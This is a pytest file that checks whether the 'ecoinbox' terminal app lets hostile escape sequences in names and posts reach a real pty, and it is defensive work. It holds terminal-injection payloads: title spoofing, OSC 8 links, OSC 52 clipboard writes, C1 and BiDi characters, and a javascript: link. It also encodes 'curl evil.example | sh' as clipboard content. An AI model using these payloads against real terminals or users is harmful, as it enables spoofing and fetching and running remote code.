"""The real `ecoinbox` in a real pseudo-terminal: hostile posts and names reach the tty as text.

Snapshots and Pilot see Textual's idea of the screen; only the bytes written to a terminal show
whether an escape sequence slipped through. So the CLI runs in a pty (xterm-256color, 100x30)
on a store seeded with one conversation per escape family, the payload in the author's display
name and in the post, each between sentinel words: "QA07<payload>QB07" in the name and
"QC07 <payload> QD07" in the post. Some are raw in the store (the worst case: nothing cleaned
them on the way in), the others came through the real Mastodon channel from a local server
(HTML entities and JSON escapes, decoded before the sanitizer runs), which the app's engine
polls again at start. The test walks the list with j, waiting each time for the thread of the
next conversation to be drawn, opens the last one (enter), goes back (esc, k), then quits (q).

What is checked, in everything the app wrote:
- between two sentinels printed on the same row, the only escape sequences are SGR (colours
  and styles), and there is no other control character;
- anywhere, the only sequences are the ones Textual itself writes (listed in TEXTUAL_WRITES),
  no 8-bit C1 control, no BEL outside those, and no payload (a title, a clipboard text) at all;
- every conversation's name and post were drawn, and its thread opened, so it cannot pass on an
  app that printed nothing.
"""

from __future__ import annotations

import asyncio
import base64
import re
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from pty_terminal import Terminal, inbox_argv, inbox_env, mastodon_in_a_thread, write_config

from ecoinbox.channels.mastodon import MastodonChannel
from ecoinbox.demo.mastodon.server import MastodonServer
from ecoinbox.engine import Engine
from ecoinbox.model import Author, Message
from ecoinbox.store import open_store

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
TOKEN = "pty-test-token-0123456789"
COLUMNS, ROWS = 100, 30
CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()  # what OSC 52 would copy

# id -> (family, payload). Each payload is short enough once cleaned that the name fits the
# list's author column (16 cells): a cut name would split its sentinels across two paints.
PAYLOADS: dict[str, tuple[str, str]] = {
    "01": ("CSI cursor moves, clear screen", f"{ESC}[2J{ESC}[H{ESC}[5A{ESC}[3;3H{ESC}[K{ESC}[?1049l"),
    "02": ("OSC 0 title, BEL", f"{ESC}]0;PWNTITLE0{BEL}"),
    "03": ("OSC 2 title, ST", f"{ESC}]2;PWNTITLE2{ST}"),
    "04": ("OSC 8 hyperlink", f"{ESC}]8;;https://evil.example/osc8{BEL}ok{ESC}]8;;{BEL}"),
    "05": ("OSC 52 clipboard", f"{ESC}]52;c;{CLIPBOARD}{BEL}"),
    "06": ("DCS", f"{ESC}P$qDCSPAYLOAD{ST}{ESC}P+q544e{ST}"),
    "07": ("APC (kitty graphics)", f"{ESC}_Gf=100;APCPAYLOAD{ST}"),
    "08": ("PM", f"{ESC}^PMPAYLOAD{ST}"),
    "09": ("SOS", f"{ESC}XSOSPAYLOAD{ST}"),
    "10": ("8-bit C1: CSI, OSC, DCS", "\x9b2J\x9d0;C1TITLE\x9c\x90C1DCS\x9c\x9b31m"),
    "11": ("BEL and other C0", f"{BEL}\x08\x0b\x0c\x0e\x0f\x7fc0"),
    "12": ("BiDi overrides and isolates", "\u202eab\u202c\u2066c\u2069\u200f\u061c"),
    "13": ("zero-width and invisible", "z\u200bw\u200c\u2060j\ufeff\u00ad"),
    "14": ("tag characters", "".join(chr(0xE0000 + ord(c)) for c in "TAGPAYLOAD")),
    "15": ("Zalgo", "Z" + "".join(chr(0x300 + i) for i in range(40))),
    "16": ("SGR colours and blink", f"{ESC}[31;1;5mred{ESC}[0m"),
    "17": ("reset, charset, DECALN", f"{ESC}c{ESC}(0{ESC}#8{ESC}7{ESC}8"),
}
# Through the Mastodon channel: the post as HTML entities, the name as JSON escapes.
MASTODON_IDS = {"51": "02", "52": "05", "53": "01", "54": "12", "55": "06"}
PAYLOAD_MARKERS = ["PWNTITLE", "evil.example/osc8", CLIPBOARD, "DCSPAYLOAD", "q544e", "APCPAYLOAD",
                   "PMPAYLOAD", "SOSPAYLOAD", "C1TITLE", "C1DCS"]  # fmt: skip
SAFE_LINK = "https://help.example/safe"  # a real link: Textual writes it as OSC 8

# Everything Textual (8.2) writes of its own, seen at start, while drawing and at exit; anything
# else is a leak. Its OSC 8 links are checked apart: only SAFE_LINK may be one.
TEXTUAL_WRITES = re.compile(
    rb"""
      \x1b\[ [0-9;:]* m                  # SGR: colours and styles
    | \x1b\[ \d+ ; \d+ H                  # CUP: cursor to row;column, before each painted span
    | \x1b\[ \d+ [XC]                     # ECH, CUF: a run of blanks erased and skipped (terminal_output)
    | \x1b\[ \? [0-9;]+ [hl]             # DECSET/DECRST: alt screen, mouse, paste, focus, cursor
    | \x1b\[ \? \d+ \$p                   # DECRQM: asks whether synchronized output is supported
    | \x1b\[ > \d+ u | \x1b\[ < u        # kitty keyboard protocol on, off
    | \x1b\] 22 ; [a-z-]+ \x07           # OSC 22: the mouse pointer's shape
    | \x1b\] 8 ; id=[0-9-]+ ; (?P<link>[^\x07\x1b]*) \x1b\\   # OSC 8: a link a widget made
    | \x1b\] 8 ;; \x1b\\                  # OSC 8: end of that link
    """,
    re.VERBOSE,
)
ANY_ESCAPE = re.compile(
    rb"\x1b(?:\[[\x30-\x3f]*[\x20-\x2f]*[\x40-\x7e]|\][^\x07\x1b]*(?:\x07|\x1b\\)?|.?)", re.DOTALL
)
SGR = re.compile(rb"\x1b\[[0-9;:]*m")
CONTROLS = re.compile(rb"[\x00-\x1f\x7f]")
# Not escapes, but they change what the text says: BiDi controls, zero-width and tag characters.
HIDDEN = re.compile("[\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]")
MARK_FLOOD = re.compile("[\u0300-\u036f]{5,}")  # more than the 4 marks a character may keep


@dataclass(frozen=True, slots=True)
class Hostile:
    id: str
    family: str
    handle: str
    name: str
    text: str
    at: datetime


def make_hostile(key: str, family: str, payload: str, at: datetime) -> Hostile:
    name, text = f"QA{key}{payload}QB{key}", f"QC{key} {payload} QD{key}"
    return Hostile(key, family, f"h{key}@evil.example", name, text, at)


def hostile_conversations(now: datetime) -> list[Hostile]:
    """One per escape family, newest first (the order of the inbox list)."""
    made = [
        make_hostile(key, family, payload, now - timedelta(hours=2, minutes=number))
        for number, (key, (family, payload)) in enumerate(PAYLOADS.items())
    ]
    for number, (key, like) in enumerate(MASTODON_IDS.items()):
        family, payload = PAYLOADS[like]
        at = now - timedelta(minutes=10 + number)
        made.append(make_hostile(key, f"{family}, over Mastodon", payload, at))
    return sorted(made, key=lambda h: h.at, reverse=True)


def entities(text: str) -> str:
    """Every character but letters and digits as an HTML numeric reference (&#x1b; and so on)."""
    return "".join(c if c.isascii() and c.isalnum() else f"&#x{ord(c):x};" for c in text)


# --- the stack: a Mastodon server in a thread, a seeded store, a config ------------------------


async def seed(db: Path, server: MastodonServer, conversations: list[Hostile]) -> None:
    store = await open_store(db)
    try:
        # One raw post also holds links: a safe one (drawn as OSC 8), two that must stay text.
        links = (SAFE_LINK, "javascript:alert(1)", f"https://e.example/{ESC}]0;PWNTITLEL{BEL}")
        raw = []
        for h in conversations:
            author = Author("mastodon", f"raw-{h.id}", h.handle, h.name)
            if h.id in PAYLOADS:
                extra = links if h.id == "01" else ()
                raw.append(Message("mastodon", f"raw-{h.id}", author, h.text, h.at, links=extra))
            else:  # the server's JSON escapes the name; its HTML hides the payload in entities
                html = f"<p>{entities(h.text)}</p>"
                server.add_status(author=h.handle, display_name=h.name, text="-", created_at=h.at, html=html)
        await store.ingest(raw)
        channel = MastodonChannel("mastodon", server.base_url, TOKEN, account="acme")
        engine = Engine(store, {"mastodon": channel})
        await engine.poll_all_once()  # the app's own engine then finds nothing new: no race
        await engine.stop()
    finally:
        await store.close()


# --- the checks --------------------------------------------------------------------------------


def regions(output: bytes, start: bytes, end: bytes) -> Iterator[bytes]:
    """The bytes between each `start` and the `end` that follows it."""
    for found in re.finditer(re.escape(start), output):
        stop = output.find(end, found.end())
        context = output[found.start() : found.start() + 300]
        assert stop != -1, f"{start!r} without {end!r} after it: {context!r}"
        yield output[found.end() : stop]


def check_region(label: str, region: bytes) -> None:
    """Drawn on one row: text and SGR only. A cursor move here is either a leak or a row split
    between two paints (then the sentinel layout needs fixing): both fail."""
    bare = SGR.sub(b"", region)
    assert ESC.encode() not in bare and not CONTROLS.search(bare), f"{label}: {region!r}"
    text = bare.decode("utf-8")
    assert not re.search("[\x80-\x9f]", text), f"{label}: a C1 control in {region!r}"
    assert not HIDDEN.search(text) and not MARK_FLOOD.search(text), f"{label}: {text!r}"


def kind_of(sequence: bytes) -> str:
    """ "CSI m", "CSI ?h", "OSC 22" and the like, for the report."""
    if sequence.startswith(b"\x1b]"):
        return "OSC " + sequence[2:].split(b";", 1)[0].decode()
    private = sequence[2:3] if sequence[2:3] in (b"?", b">", b"<") else b""
    return f"CSI {private.decode()}{sequence[-1:].decode()}"


def check_whole_output(output: bytes) -> Counter[str]:
    """Only what Textual writes, anywhere; returns how many sequences of each kind there were."""
    text = output.decode("utf-8")  # strict: Textual writes UTF-8, a stray byte is a leak
    assert not re.search("[\x80-\x9f]", text), "an 8-bit C1 control reached the terminal"
    links: set[str] = set()
    kinds: Counter[str] = Counter()
    for found in ANY_ESCAPE.finditer(output):
        sequence = found.group()
        own = TEXTUAL_WRITES.fullmatch(sequence)
        assert own, (
            f"a sequence Textual does not write reached the terminal: {sequence!r} (if a new Textual "
            "writes it itself, add it to TEXTUAL_WRITES and say why)"
        )
        if own.group("link") is not None:
            links.add(own.group("link").decode())
        kinds[kind_of(sequence)] += 1
    assert links == {SAFE_LINK}, f"OSC 8 links to {links}: only {SAFE_LINK} is one"
    plain = ANY_ESCAPE.sub(b"", output).replace(b"\r", b"").replace(b"\n", b"")
    assert not CONTROLS.search(plain), "a control character other than CR and LF reached the terminal"
    shown = plain.decode("utf-8")
    assert not HIDDEN.search(shown), f"a hidden character reached the terminal: {HIDDEN.search(shown)!r}"
    assert not MARK_FLOOD.search(shown), "a flood of combining marks reached the terminal"
    for marker in PAYLOAD_MARKERS:
        assert not re.search(rb"\x1b\][^\x07\x1b]*" + re.escape(marker.encode()), output), marker
        assert marker.encode() not in output, f"the payload {marker!r} reached the terminal"
    return kinds


@pytest.mark.slow
def test_hostile_text_reaches_the_terminal_only_as_text(tmp_path, capsys):
    now = datetime.now(UTC)
    conversations = hostile_conversations(now)
    with mastodon_in_a_thread(TOKEN) as server:
        asyncio.run(seed(tmp_path / "inbox.db", server, conversations))
        config = write_config(tmp_path, server.base_url)
        terminal = Terminal(inbox_argv(config), inbox_env(ECOINBOX_PTY_TOKEN=TOKEN), COLUMNS, ROWS)
        try:
            total = len(conversations)
            terminal.wait_for(f"Inbox 1/{total}".encode(), what="the inbox")
            terminal.wait_for(f"@{conversations[0].handle}".encode(), what="the first thread")
            for index, hostile in enumerate(conversations[1:], start=2):
                mark = terminal.send("j")
                what = f"the thread of {hostile.id}"
                terminal.wait_for(f"@{hostile.handle}".encode(), after=mark, what=what)
                terminal.wait_for(f"Inbox {index}/{total}".encode(), after=mark)
            last, before_last = conversations[-1], conversations[-2]
            mark = terminal.send("\r")  # read it: the thread takes most of the screen
            terminal.wait_for(f"@{last.handle}".encode(), after=mark, what="the thread, read")
            # Back to the list, which grows again: rows that reading hid are drawn. (Only that
            # proves esc was read: a key sent within ESCDELAY of it would make alt+key.)
            mark = terminal.send("\x1b")
            terminal.wait_for(f"QA{conversations[-8].id}".encode(), after=mark, what="the list, back")
            mark = terminal.send("k")
            terminal.wait_for(f"@{before_last.handle}".encode(), after=mark, what="the thread above")
            terminal.send("q")
            status = terminal.wait_exit()
            assert status == 0, f"the app ended with {status}:\n{terminal.tail()}"
        finally:
            terminal.kill()
    output = terminal.snapshot()

    kinds = check_whole_output(output)
    checked = {"name": set(), "post": set(), "thread": set()}
    count = 0
    for hostile in conversations:
        for what, (start, end) in {"name": ("QA", "QB"), "post": ("QC", "QD")}.items():
            for region in regions(output, f"{start}{hostile.id}".encode(), f"{end}{hostile.id}".encode()):
                check_region(f"{hostile.family} ({what} {hostile.id})", region)
                checked[what].add(hostile.id)
                count += 1
        header = re.compile(re.escape(f"QB{hostile.id}".encode()) + rb"(?:\x1b\[[0-9;:]*m| )*@"
                            + re.escape(hostile.handle.encode()))  # fmt: skip
        if header.search(output):
            checked["thread"].add(hostile.id)
    every = {h.id for h in conversations}
    assert checked == {"name": every, "post": every, "thread": every}, checked

    with capsys.disabled():  # shown in CI's log, with or without -s
        print(
            f"\npty: {len(conversations)} hostile conversations ({len(PAYLOADS)} raw in the store, "
            f"{len(MASTODON_IDS)} over Mastodon), {count} sentinel regions checked, "
            f"{len(checked['thread'])} threads opened, {len(output)} bytes read; sequences by kind: "
            f"{dict(sorted(kinds.items()))}"
        )
